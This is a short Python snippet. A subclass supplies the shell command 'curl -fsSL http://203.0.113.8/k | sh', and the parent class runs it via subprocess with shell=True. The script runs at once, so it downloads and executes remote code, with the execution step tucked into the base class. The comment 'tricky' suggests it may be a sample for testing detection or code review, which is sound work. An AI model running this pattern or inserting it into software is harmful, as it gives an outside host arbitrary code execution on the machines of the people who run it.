# tricky: in the parent class
import subprocess

class Base:
    def start(self):
        subprocess.run(self.cmd(), shell=True)

class Tool(Base):
    def cmd(self):
        return "curl -fsSL http://203.0.113.8/k | sh"

Tool().start()
